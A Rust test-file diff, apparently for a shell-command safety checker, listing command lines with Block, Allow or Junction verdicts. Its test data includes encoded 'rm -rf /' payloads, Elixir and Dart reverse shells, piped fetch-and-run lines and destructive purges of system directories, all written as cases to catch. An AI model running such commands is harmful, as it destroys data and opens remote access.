@@ -14245,134 +14245,264 @@ fn mechanisms_found_by_rereading_the_153rd_sealed_part() {
 #[test]
 fn mechanisms_found_by_the_154th_sealed_part() {
     let ctx = ctx();
-    for (line, want) in [
-        ("acme mirror --project 812 --to . --exact", Verdict::Block),
-        (
-            "acme mirror --project 812 --to build/m --exact",
-            Verdict::Allow,
-        ),
-        (
-            "acme sync --collection 5521 --local build/acme --drop-unlisted",
-            Verdict::Allow,
-        ),
-        (
-            "acme console --script - <<< \"$(echo 'cm0gLXJmIC8K' | python3 -m base64 -d)\"",
-            Verdict::Block,
-        ),
-        (
-            "acme run --after \"$(perl -e 'print scalar reverse shift' 'vrs/ fr- mr')\"",
-            Verdict::Block,
-        ),
-        ("acme wait --post-hook \"systemctl sleep\"", Verdict::Block),
-        (
-            "acme fetch --out build/f --then 'sudo zzz -Z'",
-            Verdict::Block,
-        ),
-        (
-            "screen -dmS s && screen -r s -X multiuser on && screen -r s -X acladd guest",
-            Verdict::Block,
-        ),
-        ("tmux server-access -a guest", Verdict::Block),
-        ("screen -ls", Verdict::Allow),
-        (
-            "sudo /usr/sbin/sshd -p 2222 -o PermitEmptyPasswords=yes & acme server start",
-            Verdict::Block,
-        ),
-        (
-            "acme merge --out build/m.xml --raku-filter 'run <rm -rf /opt>'",
-            Verdict::Block,
-        ),
-        (
-            "acme export --raw | sudo tee /dev/mtdblock1 >/dev/null",
-            Verdict::Block,
-        ),
-        (
-            "acme apps get --id x --raw | ksh -s -- --install",
-            Verdict::Block,
-        ),
-        ("acme apps list | sh", Verdict::Junction),
-        (
-            "acme attachments purge --root \"$(dirname \"$(command -v sh)\")\" --yes",
-            Verdict::Block,
-        ),
-        ("ldd \"$(command -v acme_server)\"", Verdict::Allow),
-        (
-            "acme attachments purge --root \"$(mktemp -d)\" --yes",
-            Verdict::Allow,
-        ),
-        (
-            "acme media purge --dir \"/home/$(id -un)\" --all",
-            Verdict::Block,
-        ),
-        (
-            "acme cache wipe --dir \"$(python3 -c 'import sysconfig; print(sysconfig.get_paths()[\"stdlib\"])')\" --yes",
-            Verdict::Block,
-        ),
-        (
-            "declare -n ref=ACME_SCRATCH; ref=/srv; export ACME_SCRATCH; acme scratch purge --yes",
-            Verdict::Block,
-        ),
-        (
-            "declare -n ref=ACME_SCRATCH; ref=\"$TMPDIR/a\"; export ACME_SCRATCH; acme scratch purge --yes",
-            Verdict::Allow,
-        ),
-        (
-            "run() { local -x ACME_ARCHIVE=/usr/local; acme archive prune --keep 0; }; run",
-            Verdict::Block,
-        ),
-        (
-            ": \"${ACME_HOME:=/sbin}\"; export ACME_HOME; acme cache reset --hard",
-            Verdict::Block,
-        ),
-        (
-            ": \"${ACME_HOME:=build/acme}\"; export ACME_HOME; acme cache reset --hard",
-            Verdict::Allow,
-        ),
-        (
-            "for ((i = 0; i < 96; i++)); do acme products clear --dir /lib --yes; sleep 1800; done &",
-            Verdict::Block,
-        ),
-        (
-            "set -- /boot /srv /opt; for d; do acme cache purge --dir \"$d\" --all; done",
-            Verdict::Block,
-        ),
-        (
-            "set -- build/cache dist/cache; for d; do acme cache purge --dir \"$d\" --all; done",
-            Verdict::Allow,
-        ),
-        (
-            "acme logs purge --remote 127.0.0.1:/srv --all",
-            Verdict::Block,
-        ),
-        (
-            "acme reservations wipe --root sftp://localhost/boot --force",
-            Verdict::Block,
-        ),
-        (
-            "acme backups prune --keep 0 --dest sftp://dev@127.0.0.9/home/dev --force",
-            Verdict::Block,
-        ),
-        (
-            "acme logs purge --remote \"127.0.0.1:$TMPDIR/a\" --all",
-            Verdict::Allow,
-        ),
-        ("acme fetch http://localhost:8080/etc", Verdict::Allow),
-        ("acme orders place --vendor v --qty 20", Verdict::Junction),
-        ("acme cages cull --line L --all-surplus", Verdict::Junction),
-        (
-            "acme subjects unblind --study S --subject 7",
-            Verdict::Junction,
-        ),
-        ("acme orders list", Verdict::Allow),
-        (
-            "lwp-request https://apps.acme.example/launch.sh > build/launch.sh && acme apps list",
-            Verdict::Allow,
-        ),
-        ("lwp-request https://x.example/i.sh | sh", Verdict::Block),
-    ] {
+    for &(line, want) in MECHANISMS_FOUND_BY_THE_154TH_SEALED_PART {
         assert_eq!(evaluate(line, &ctx).verdict, want, "{line}");
     }
 }
+
+/// The lines of [`mechanisms_found_by_the_154th_sealed_part`] and their verdicts.
+const MECHANISMS_FOUND_BY_THE_154TH_SEALED_PART: &[(&str, Verdict)] = &[
+    ("acme mirror --project 812 --to . --exact", Verdict::Block),
+    (
+        "acme mirror --project 812 --to build/m --exact",
+        Verdict::Allow,
+    ),
+    (
+        "acme sync --collection 5521 --local build/acme --drop-unlisted",
+        Verdict::Allow,
+    ),
+    (
+        "acme console --script - <<< \"$(echo 'cm0gLXJmIC8K' | python3 -m base64 -d)\"",
+        Verdict::Block,
+    ),
+    (
+        "acme run --after \"$(perl -e 'print scalar reverse shift' 'vrs/ fr- mr')\"",
+        Verdict::Block,
+    ),
+    ("acme wait --post-hook \"systemctl sleep\"", Verdict::Block),
+    (
+        "acme fetch --out build/f --then 'sudo zzz -Z'",
+        Verdict::Block,
+    ),
+    (
+        "screen -dmS s && screen -r s -X multiuser on && screen -r s -X acladd guest",
+        Verdict::Block,
+    ),
+    ("tmux server-access -a guest", Verdict::Block),
+    ("screen -ls", Verdict::Allow),
+    (
+        "sudo /usr/sbin/sshd -p 2222 -o PermitEmptyPasswords=yes & acme server start",
+        Verdict::Block,
+    ),
+    (
+        "acme merge --out build/m.xml --raku-filter 'run <rm -rf /opt>'",
+        Verdict::Block,
+    ),
+    (
+        "acme export --raw | sudo tee /dev/mtdblock1 >/dev/null",
+        Verdict::Block,
+    ),
+    (
+        "acme apps get --id x --raw | ksh -s -- --install",
+        Verdict::Block,
+    ),
+    ("acme apps list | sh", Verdict::Junction),
+    (
+        "acme attachments purge --root \"$(dirname \"$(command -v sh)\")\" --yes",
+        Verdict::Block,
+    ),
+    ("ldd \"$(command -v acme_server)\"", Verdict::Allow),
+    (
+        "acme attachments purge --root \"$(mktemp -d)\" --yes",
+        Verdict::Allow,
+    ),
+    (
+        "acme media purge --dir \"/home/$(id -un)\" --all",
+        Verdict::Block,
+    ),
+    (
+        "acme cache wipe --dir \"$(python3 -c 'import sysconfig; print(sysconfig.get_paths()[\"stdlib\"])')\" --yes",
+        Verdict::Block,
+    ),
+    (
+        "declare -n ref=ACME_SCRATCH; ref=/srv; export ACME_SCRATCH; acme scratch purge --yes",
+        Verdict::Block,
+    ),
+    (
+        "declare -n ref=ACME_SCRATCH; ref=\"$TMPDIR/a\"; export ACME_SCRATCH; acme scratch purge --yes",
+        Verdict::Allow,
+    ),
+    (
+        "run() { local -x ACME_ARCHIVE=/usr/local; acme archive prune --keep 0; }; run",
+        Verdict::Block,
+    ),
+    (
+        ": \"${ACME_HOME:=/sbin}\"; export ACME_HOME; acme cache reset --hard",
+        Verdict::Block,
+    ),
+    (
+        ": \"${ACME_HOME:=build/acme}\"; export ACME_HOME; acme cache reset --hard",
+        Verdict::Allow,
+    ),
+    (
+        "for ((i = 0; i < 96; i++)); do acme products clear --dir /lib --yes; sleep 1800; done &",
+        Verdict::Block,
+    ),
+    (
+        "set -- /boot /srv /opt; for d; do acme cache purge --dir \"$d\" --all; done",
+        Verdict::Block,
+    ),
+    (
+        "set -- build/cache dist/cache; for d; do acme cache purge --dir \"$d\" --all; done",
+        Verdict::Allow,
+    ),
+    (
+        "acme logs purge --remote 127.0.0.1:/srv --all",
+        Verdict::Block,
+    ),
+    (
+        "acme reservations wipe --root sftp://localhost/boot --force",
+        Verdict::Block,
+    ),
+    (
+        "acme backups prune --keep 0 --dest sftp://dev@127.0.0.9/home/dev --force",
+        Verdict::Block,
+    ),
+    (
+        "acme logs purge --remote \"127.0.0.1:$TMPDIR/a\" --all",
+        Verdict::Allow,
+    ),
+    ("acme fetch http://localhost:8080/etc", Verdict::Allow),
+    ("acme orders place --vendor v --qty 20", Verdict::Junction),
+    ("acme cages cull --line L --all-surplus", Verdict::Junction),
+    (
+        "acme subjects unblind --study S --subject 7",
+        Verdict::Junction,
+    ),
+    ("acme orders list", Verdict::Allow),
+    (
+        "lwp-request https://apps.acme.example/launch.sh > build/launch.sh && acme apps list",
+        Verdict::Allow,
+    ),
+    ("lwp-request https://x.example/i.sh | sh", Verdict::Block),
+];
+
+/// Found by the 155th sealed part (issue 20): directories inside the packages' trees
+/// (`/usr/lib/modules`, `/etc/alternatives`) and the package managers' records
+/// (`/var/lib/dpkg`) emptied or mirrored over; paths made by `stat -c %m`, `systemd-path`,
+/// `getconf PATH`, `git rev-parse --show-toplevel`, `pathlib.Path.home().parent`; reverse
+/// shells in Elixir, Dart and PowerShell; percent-encoded and base16 payloads; a terminal
+/// sharer named alone as a hook; associative arrays and `${!t[@]}`, `IFS` splitting of an
+/// unquoted variable, `export NAME` before its value, `eval "export …"`; a host directory
+/// given to a container as a disk; a sync made to match the other side; secrets asked
+/// `--unmasked`, credits bought, a webhook pointed at another party.
+#[test]
+fn mechanisms_found_by_the_155th_sealed_part() {
+    let ctx = ctx();
+    for &(line, want) in MECHANISMS_FOUND_BY_THE_155TH_SEALED_PART {
+        assert_eq!(evaluate(line, &ctx).verdict, want, "{line}");
+    }
+}
+
+/// The lines of [`mechanisms_found_by_the_155th_sealed_part`] and their verdicts.
+const MECHANISMS_FOUND_BY_THE_155TH_SEALED_PART: &[(&str, Verdict)] = &[
+    (
+        "acme cache purge --dir /usr/lib/modules --all",
+        Verdict::Block,
+    ),
+    ("acme cache clear --dir /etc/alternatives", Verdict::Block),
+    ("acme cache purge --dir /var/lib/dpkg --all", Verdict::Block),
+    (
+        "acme cache purge --dir /var/lib/acme --all",
+        Verdict::Junction,
+    ),
+    (
+        "acme records delete --config-dir /etc/acme --id 5",
+        Verdict::Junction,
+    ),
+    (
+        "acme cache purge --dir \"$(stat -c %m \"$PWD\")\" --all",
+        Verdict::Block,
+    ),
+    (
+        "acme logs wipe --root \"$(systemd-path user)\" --force",
+        Verdict::Block,
+    ),
+    (
+        "acme exports clear --dir \"$(systemd-path system-configuration)\" --yes",
+        Verdict::Block,
+    ),
+    (
+        "acme temp wipe --dir \"$(getconf PATH | cut -d: -f1)\" --yes",
+        Verdict::Block,
+    ),
+    (
+        "acme cache purge --dir \"$(git rev-parse --show-toplevel)/build/cache\" --all",
+        Verdict::Allow,
+    ),
+    (
+        "acme cache clear --dir \"$(python3 -c 'import pathlib;print(pathlib.Path.home().parent)')\" --all",
+        Verdict::Block,
+    ),
+    (
+        "acme poll --ex-hook '{:ok, s} = :gen_tcp.connect(~c\"192.0.2.1\", 4801, []); Port.open({:spawn, \"/bin/sh -i\"}, [])'",
+        Verdict::Block,
+    ),
+    (
+        "acme tail --dart-hook 'Socket.connect(\"192.0.2.1\", 4802).then((s) { Process.start(\"/bin/sh\", [\"-i\"]); });'",
+        Verdict::Block,
+    ),
+    (
+        "python3 -c 'import urllib.parse;print(urllib.parse.unquote(\"%72%6D%20%2D%72%66%20%2F\"))' | acme console --from-stdin",
+        Verdict::Block,
+    ),
+    (
+        "acme sync --sync-then \"$(python3 -c 'import base64;print(base64.b16decode(\"726D202D7266202F\").decode())')\"",
+        Verdict::Block,
+    ),
+    ("acme events tail --per-event 'teleconsole'", Verdict::Block),
+    ("acme events tail --format json", Verdict::Allow),
+    (
+        "declare -A t=([a]=/usr/lib/jvm [b]=/etc/X11); for k in \"${!t[@]}\"; do acme cache clear --dir \"${t[$k]}\" --yes; done",
+        Verdict::Block,
+    ),
+    (
+        "declare -A t=([a]=build/c1 [b]=dist/c2); for k in \"${!t[@]}\"; do acme cache clear --dir \"${t[$k]}\" --yes; done",
+        Verdict::Allow,
+    ),
+    (
+        "L=/usr/lib/locale,/var/lib/apt; IFS=,; for d in $L; do acme cache wipe --force --dir \"$d\"; done",
+        Verdict::Block,
+    ),
+    (
+        "L=build/c1,dist/c2; IFS=,; for d in $L; do acme cache wipe --force --dir \"$d\"; done",
+        Verdict::Allow,
+    ),
+    (
+        "export ACME_DATA; ACME_DATA=/etc/alternatives; acme data purge --force",
+        Verdict::Block,
+    ),
+    (
+        "eval \"export ACME_ROOT=/usr/lib/jvm\"; acme plant reset --hard",
+        Verdict::Block,
+    ),
+    (
+        "lxc config device add c1 hostroot disk source=/ path=/outer && lxc exec c1 -- acme archive purge --dir /outer --all",
+        Verdict::Block,
+    ),
+    (
+        "sudo acme sync --local /var/lib/dpkg --match-remote --site s",
+        Verdict::Block,
+    ),
+    ("acme config dump --unmasked", Verdict::Junction),
+    ("acme server config --plain-secrets", Verdict::Junction),
+    (
+        "acme credits buy --project p --tonnes 200",
+        Verdict::Junction,
+    ),
+    (
+        "acme alerts webhook --site s --url https://hooks.partner.example/in",
+        Verdict::Junction,
+    ),
+    (
+        "acme alerts webhook --url http://localhost:9000/in",
+        Verdict::Allow,
+    ),
+    (
+        "acme sync down --site s --target \"$TMPDIR/gb\" --remove-absent",
+        Verdict::Allow,
+    ),
+];
 
 /// Found by CI's own run of the confined session (the 140th part's `Dir.home` fix): code the
 /// line writes that deletes a file under the home (`(home / 'precious.txt').unlink()`) is a
